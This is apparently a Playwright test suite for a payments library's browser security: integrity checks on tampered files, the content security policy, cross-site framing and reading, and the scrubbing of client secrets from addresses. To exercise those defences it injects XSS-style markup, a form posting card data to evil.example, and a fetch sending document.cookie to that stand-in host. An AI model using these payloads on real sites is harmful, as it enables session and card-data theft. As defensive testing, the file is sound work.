"""What else may run, frame, hold or read the shop's pages: changed files, other sites, secrets in addresses."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Request, Route, expect

from paidonce.core import Actor
from paidonce.gateways.registry import configure_all
from paidonce.money import Money
from paidonce.ports import SystemClock
from paidonce.states import OrderStatus
from paidonce.store import PayableOrder, SqlStore
from paidonce.web.mount import Payments
from support.browsershop import Surroundings, Twins, Visit, production_environment, visit

SECRET = "pi_canary_secret_canary"
EVIL = "http://localhost:9/evil"
FRAME = """url => new Promise((done) => {
  const frame = document.createElement('iframe');
  frame.onload = () => done();
  frame.src = url;
  document.body.append(frame);
})"""
READ = "url => fetch(url, { credentials: 'include', mode: 'no-cors' }).then(() => 'read', () => 'refused')"
TRACKER = "https://tracker.example/pixel.png"


# ── Files that were changed ──────────


def change(page: Page, path: str, addition: str) -> None:
    """Somebody between the shop and the browser changes a file of the shop's."""

    def answer(route: Route) -> None:
        real = route.fetch()
        route.fulfill(response=real, body=real.text() + addition)

    page.route(f"**{path}", answer)


@pytest.mark.parametrize(
    ("path", "addition"),
    [
        ("/assets/pay.js", "\nwindow.hacked = 1;"),
        # Not named by the page: another module imports it.
        ("/assets/paidonce.js", "\nwindow.hacked = 1;"),
        ("/assets/gateways/stripe/component.js", "\nwindow.hacked = 1;"),
        ("/assets/paidonce.css", "\nbody { --hacked: 1; }"),
    ],
    ids=["named", "imported", "of a gateway", "style"],
)
def test_a_changed_file_is_refused_by_the_browser(
    browser: Browser, sandbox_shop: Surroundings, path: str, addition: str
) -> None:
    with visit(browser, sandbox_shop) as here:
        order = here.order()
        change(here.page, path, addition)
        with here.page.expect_console_message(lambda said: "integrity" in said.text and path in said.text):
            here.open_pay_page(order)
        expect(here.page.get_by_role("heading", name="How would you like to pay?")).to_be_visible()
        hacked = "[window.hacked, getComputedStyle(document.body).getPropertyValue('--hacked')]"
        assert here.page.evaluate(hacked) == [None, ""]
        if path == "/assets/paidonce.js":
            assert here.page.evaluate("customElements.get('stripe-payment')") is None, "nothing runs without its base"
        assert here.violations == []


def test_a_policys_violation_fails_whoever_visits(browser: Browser, sandbox_shop: Surroundings) -> None:
    """The listener of all browser tests hears what the policy stops, also where a test clears its console."""
    with pytest.raises(AssertionError, match=re.escape("CSP violation: img-src https://evil.example")):
        _visit_with_a_planted_picture(browser, sandbox_shop)


def _visit_with_a_planted_picture(browser: Browser, around: Surroundings) -> None:
    with visit(browser, around) as here:
        here.page.goto(around.url)
        with here.page.expect_console_message(lambda said: said.text.startswith("CSP violation")):
            here.page.evaluate("new Image().src = 'https://evil.example/x.png'")
        here.console.clear()


@pytest.mark.parametrize("page", ["/", "/orders/{order}/pay"])
def test_what_slips_into_a_page_does_not_run(browser: Browser, production_shop: Surroundings, page: str) -> None:
    """Markup that got into a page after all: the policy is the second line."""
    markup = (
        "<img src=/nothing onerror='window.hacked=1'><a id=bait href='javascript:window.hacked=1'>x</a>"
        "<form id=thief action='https://evil.example/'><input name=card></form>"
        "<iframe srcdoc='<script>top.hacked=1</script>'></iframe><base href='https://evil.example/'>"
        "<object data='/assets/favicon.svg'></object><style>body { --hacked: 1; }</style>"
    )
    with browser.new_context(service_workers="block") as context:
        visited = Visit(production_shop, context, context.new_page())
        context.add_cookies(_cookies(browser, production_shop))
        here, order = visited.page, visited.order()
        leaked: list[str] = []
        here.on("request", lambda request: leaked.append(request.url) if "evil" in request.url else None)
        here.route("https://**", lambda route: route.abort())
        # As a hole on the server would have it: in the page's own text, which no type check of a script's sees.
        here.route(
            f"{production_shop.url}{page.format(order=order)}",
            lambda route: _slip_in(
                route, markup + "<script>window.hacked=1</script><script src=/assets/order.js></script>"
            ),
        )
        here.goto(production_shop.url + page.format(order=order))
        here.locator("#bait").click()
        here.locator("#thief").evaluate("form => form.requestSubmit()")
        here.evaluate("fetch('https://evil.example/?' + document.cookie).catch(() => {})")
        state = "[window.hacked, getComputedStyle(document.body).getPropertyValue('--hacked'), document.baseURI]"
        assert here.evaluate(state) == [None, "", here.url]
        assert leaked == []
        assert here.url == production_shop.url + page.format(order=order)


def _slip_in(route: Route, markup: str) -> None:
    real = route.fetch()
    route.fulfill(response=real, body=real.text().replace("<main", f"{markup}<main", 1))


def _cookies(browser: Browser, around: Surroundings) -> list[Any]:
    if not around.cookies:
        with visit(browser, around):
            pass
    return around.cookies


# ── A host's own pay page ──────────


def host_payments(url: str) -> Payments:
    """The payments as a FastAPI shop at `url` mounts them."""

    async def current_user() -> Actor:
        return Actor("host_user")

    environment = production_environment() | {"PAIDONCE_PUBLIC_URL": url, "PAIDONCE_WORKER": "0"}
    return Payments(
        store=SqlStore(),
        current_user=current_user,
        return_path="/back?payment={payment}",
        gateways=configure_all(environment, Twins(), SystemClock()),
        environment=environment,
    )


@pytest.mark.parametrize("nonce", ["bm9uY2Utb2YtdGhpcy1hbnN3ZXI", None], ids=["nonce", "self"])
def test_a_hosts_pay_page_works_under_the_policy_that_it_is_told(
    browser: Browser, production_shop: Surroundings, nonce: str | None
) -> None:
    payments = host_payments(production_shop.url)
    with visit(browser, production_shop) as here:
        order = here.order()
        bought = here.state(order)
        total = Money(bought["total"], bought["currency"])
        payable = PayableOrder(order, bought["number"], "host_user", OrderStatus.OPEN, total)
        offers = payments.offers(payable)
        own = f'<script type="module" nonce="{nonce}">window.own = 1</script>' if nonce else ""
        elements = "".join(str(payments.element(offer)) for offer in offers)
        html = f"<!doctype html><title>Pay</title>{payments.scripts(offers, nonce=nonce)}{own}<main>{elements}</main>"
        headers = {**payments.headers(nonce), "Content-Type": "text/html"}
        here.page.route("**/host", lambda route: route.fulfill(body=html, headers=headers))
        here.page.goto(f"{production_shop.url}/host")
        expect(here.paypal_button).to_be_visible()
        here.choose_card("Pays")
        here.pay_by_card()
        expect(here.page.locator("stripe-payment [role=status]")).to_contain_text("Thank you")
        assert here.state(order)["status"] == "paid"
        assert here.page.evaluate("window.own") == (1 if nonce else None)
        here.assert_clean()


# ── Other sites ──────────


def test_another_site_can_neither_frame_nor_hold_nor_read_the_shop(
    browser: Browser, sandbox_shop: Surroundings
) -> None:
    with visit(browser, sandbox_shop) as here:
        url, page = sandbox_shop.url, here.page
        order = here.order()
        pay_page = f"{url}/orders/{order}/pay"
        page.route(f"{EVIL}**", lambda route: route.fulfill(body="<!doctype html><body>evil", content_type="text/html"))
        page.goto(EVIL)
        with here.context.expect_page() as opened:
            page.evaluate("url => { window.held = window.open(url); }", pay_page)
        shop = opened.value
        expect(shop.get_by_role("heading", name="How would you like to pay?")).to_be_visible()
        # It has the buyer's session and looks as always, but neither window knows of the other any more.
        assert shop.evaluate("window.opener") is None
        assert page.evaluate("window.held.closed") is True
        page.evaluate(FRAME, pay_page)
        (frame,) = [one for one in page.frames if one is not page.main_frame]
        assert frame.url.startswith("chrome-error:")
        for path in ("/assets/paidonce.css", "/assets/favicon.svg", "/api/orders"):
            read = page.evaluate(READ, url + path)
            assert read == "refused", path
        assert here.violations == []


def test_paypals_window_survives_the_rule_that_cuts_other_sites_off(
    browser: Browser, production_shop: Surroundings
) -> None:
    with visit(browser, production_shop) as here:
        order = here.pay_page()
        with here.page.expect_popup() as opened:
            here.paypal_button.click()
        pay = opened.value.get_by_role("button", name=re.compile("^Pay "))
        expect(pay).to_be_visible()
        assert opened.value.evaluate("window.opener !== null")
        pay.click()
        expect(here.page.get_by_role("heading", name="Paid. Thank you!")).to_be_visible()
        assert here.state(order)["status"] == "paid"
        here.assert_clean()


# ── Secrets in addresses ──────────


def returned(payment: str) -> str:
    """What gateways add behind our own parameter."""
    added = f"payment_intent=pi_canary&payment_intent_client_secret={SECRET}&redirect_status=succeeded"
    return f"?payment={payment}&{added}&token={SECRET}&PayerID={SECRET}"


class Overheard:
    """Everything that the browser asks for, with the address that it says it comes from."""

    def __init__(self, page: Page) -> None:
        self.requests: list[Request] = []
        page.on("request", self._note)

    def _note(self, request: Request) -> None:
        self.requests.append(request)

    def with_secret(self) -> list[str]:
        """Requests that carry the secret, other than the one that brought it here."""
        told = [(one.url, one.all_headers().get("referer", "")) for one in self.requests]
        return [f"{url} from {referer}" for url, referer in told if SECRET in referer or SECRET in url]


def assert_forgotten(page: Page) -> None:
    """The secret is in no address, no history and no markup, also not a step back and forth."""
    assert SECRET not in str(page.evaluate("[location.href, document.referrer, history.state]"))
    page.go_back()
    assert SECRET not in page.url
    page.go_forward()
    assert SECRET not in page.url


@pytest.mark.parametrize("case", ["own", "unknown", "signed-out"])
def test_a_client_secret_leaves_the_address_bar_whatever_the_shop_answers(
    browser: Browser, sandbox_shop: Surroundings, case: str
) -> None:
    with visit(browser, sandbox_shop) as here:
        page, order = here.page, here.order()
        started = here.context.request.post(
            f"{sandbox_shop.url}/api/orders/{order}/payments", data={"gateway": "stripe"}
        )
        payment = "pay_00000000000000000000000000" if case == "unknown" else started.json()["id"]
        if case == "signed-out":
            here.context.clear_cookies()
        page.goto(f"{sandbox_shop.url}/orders")
        overheard = Overheard(page)
        page.goto(f"{sandbox_shop.url}/orders/{order}/return{returned(payment)}")
        expect(page.get_by_role("main")).to_be_visible()
        brought, *others = overheard.with_secret()
        assert brought.startswith(f"{sandbox_shop.url}/orders/{order}/return?payment=")
        assert others == []
        assert_forgotten(page)
        # Where a script takes the secret away instead, this still tells it to every other script of the page.
        assert SECRET not in page.evaluate("performance.getEntriesByType('navigation')[0].name")


def test_a_client_secret_leaves_the_address_of_a_hosts_page_before_anything_else_runs(
    browser: Browser, sandbox_shop: Surroundings
) -> None:
    """The helper of the elements, on a page that isn't ours and whose other scripts are curious."""
    host_page = f"""<!doctype html><body><script type="module" src="/assets/paidonce.js"></script>
      <script type="module">
        window.read = location.href;
        new Image().src = '{TRACKER}?' + encodeURIComponent(location.href);
      </script>"""
    with visit(browser, sandbox_shop) as here:
        page, address = here.page, f"{sandbox_shop.url}/host"
        page.route(f"{address}**", lambda route: route.fulfill(body=host_page, content_type="text/html"))
        page.route("https://tracker.example/**", lambda route: route.fulfill(status=204))
        page.goto(f"{sandbox_shop.url}/orders")
        overheard = Overheard(page)
        with page.expect_request("https://tracker.example/**"):
            page.goto(
                f"{address}?order=7&payment=pay_00000000000000000000000000&payment_intent_client_secret={SECRET}#token={SECRET}"
            )
        assert page.evaluate("window.read") == f"{address}?order=7"
        tracker = [one for one in overheard.requests if one.url.startswith("https://tracker.example/")]
        assert len(tracker) == 1
        assert SECRET not in tracker[0].url + tracker[0].all_headers().get("referer", "")
        assert_forgotten(page)
